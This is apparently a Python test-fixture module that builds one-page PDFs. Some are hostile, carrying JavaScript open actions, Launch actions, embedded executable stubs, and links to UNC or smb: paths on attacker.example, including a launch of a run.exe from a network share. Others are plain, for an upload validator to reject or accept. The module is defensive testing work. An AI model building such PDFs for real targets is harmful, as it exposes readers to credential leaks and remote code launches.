"""One-page PDFs, plain or carrying something a reader could run or open."""

from __future__ import annotations

import io

import pypdf
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)


def pdf_with(change: object = None) -> bytes:
    """A one-page PDF; change(writer) adds something hostile before it is written."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(text: str) -> NameObject:
    return NameObject(text)


def _open_action_javascript(writer: pypdf.PdfWriter) -> None:
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(1)")}
    )


def document_javascript(writer: pypdf.PdfWriter) -> None:
    from pypdf.actions import JavaScript

    writer.add_open_action(JavaScript("app.alert(1)"))


def _launch(writer: pypdf.PdfWriter) -> None:
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("calc.exe")}
    )


def _embedded_file(writer: pypdf.PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")


def _link_annotation_with_script(writer: pypdf.PdfWriter) -> None:
    action = DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(1)")}
    )
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([pypdf.generic.FloatObject(v) for v in (0, 0, 99, 99)]),
            _name("/A"): writer._add_object(action),
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])


def _javascript_uri(writer: pypdf.PdfWriter) -> None:
    action = DictionaryObject(
        {_name("/S"): _name("/URI"), _name("/URI"): TextStringObject("javascript:alert(1)")}
    )
    writer._root_object[_name("/OpenAction")] = action


def _stream(data: bytes, **entries: object) -> StreamObject:
    stream = StreamObject()
    stream.set_data(data)
    for key, value in entries.items():
        stream[_name(f"/{key}")] = value
    return stream


def _orphan_embedded_file(writer: pypdf.PdfWriter) -> None:
    """A /Type /EmbeddedFile stream that nothing points to: no names tree, no annotation."""
    writer._add_object(_stream(b"MZ\x90\x00", Type=_name("/EmbeddedFile")))


def _file_attachment_annotation(writer: pypdf.PdfWriter) -> None:
    """A file attachment annotation whose file specification carries the file (/FS, /EF);
    the stream has no /Type, so only the file specification gives it away."""
    stream = writer._add_object(_stream(b"MZ\x90\x00"))
    spec = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): TextStringObject("invoice.exe"),
            _name("/EF"): DictionaryObject({_name("/F"): stream}),
        }
    )
    _annotate(writer, _name("/FileAttachment"), {_name("/FS"): writer._add_object(spec)})


def _go_to_embedded(writer: pypdf.PdfWriter) -> None:
    target = DictionaryObject({_name("/R"): _name("/C"), _name("/N"): TextStringObject("a.pdf")})
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/GoToE"), _name("/T"): target}
    )


def _remote_go_to(file: object) -> object:
    def change(writer: pypdf.PdfWriter) -> None:
        action = DictionaryObject(
            {
                _name("/S"): _name("/GoToR"),
                _name("/F"): file,
                _name("/D"): ArrayObject([NumberObject(0), _name("/Fit")]),
            }
        )
        _annotate(writer, _name("/Link"), {_name("/A"): writer._add_object(action)})

    return change


def _uri_link(uri: str) -> object:
    def change(writer: pypdf.PdfWriter) -> None:
        action = DictionaryObject(
            {_name("/S"): _name("/URI"), _name("/URI"): TextStringObject(uri)}
        )
        _annotate(writer, _name("/Link"), {_name("/A"): action})

    return change


def _annotate(writer: pypdf.PdfWriter, subtype: NameObject, entries: dict) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): subtype,
            _name("/Rect"): ArrayObject([pypdf.generic.FloatObject(v) for v in (0, 0, 99, 99)]),
            **entries,
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _unc_file_spec(writer: pypdf.PdfWriter) -> None:
    spec = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/UF"): TextStringObject("\\\\attacker.example\\share\\minutes.pdf"),
        }
    )
    _remote_go_to(writer._add_object(spec))(writer)


# Kinds refused since the second security pass (issue 17): (builder, words of the message).
HOSTILE_PDFS_SECOND_PASS = {
    "an embedded file stream nothing points to": (_orphan_embedded_file, "an embedded file"),
    "a file attachment annotation (/FS with /EF)": (
        _file_attachment_annotation,
        "an embedded file",
    ),
    "an embedded go-to action (GoToE)": (_go_to_embedded, "opens an embedded document"),
    "a remote go-to to a UNC path": (
        _remote_go_to(TextStringObject("\\\\attacker.example\\share\\x.pdf")),
        "a file on another computer",
    ),
    "a remote go-to to a UNC path in a file specification": (
        _unc_file_spec,
        "a file on another computer",
    ),
    "a remote go-to to an smb: address": (
        _remote_go_to(TextStringObject("smb://attacker.example/share/x.pdf")),
        "a file on another computer",
    ),
    "a launch action to a network path": (
        lambda writer: _launch_to(writer, "\\\\attacker.example\\share\\run.exe"),
        "launches a program",
    ),
    "a file:// link": (_uri_link("file:///C:/Windows/System32/calc.exe"), "a file:// link"),
    "a FILE:// link in capitals with spaces": (_uri_link(" FILE://server/x"), "a file:// link"),
    "a link to a UNC path": (_uri_link("\\\\attacker.example\\x"), "another computer"),
}
# What stays accepted: ordinary web links, a link inside the document, a relative file.
PLAIN_PDFS = {
    "a web link": _uri_link("https://example.org/report"),
    "a mail link": _uri_link("mailto:board@example.org"),
    "a remote go-to to a file beside it": _remote_go_to(TextStringObject("appendix.pdf")),
}


def _launch_to(writer: pypdf.PdfWriter, file: str) -> None:
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/Launch"), _name("/F"): TextStringObject(file)}
    )


HOSTILE_PDFS = {
    "an open action running JavaScript": (_open_action_javascript, "JavaScript"),
    "document-level JavaScript": (document_javascript, "JavaScript"),
    "a launch action": (_launch, "launches a program"),
    "an embedded file": (_embedded_file, "an embedded file"),
    "a link annotation running JavaScript": (_link_annotation_with_script, "JavaScript"),
    "a javascript: URI": (_javascript_uri, "javascript: link"),
    **HOSTILE_PDFS_SECOND_PASS,
}
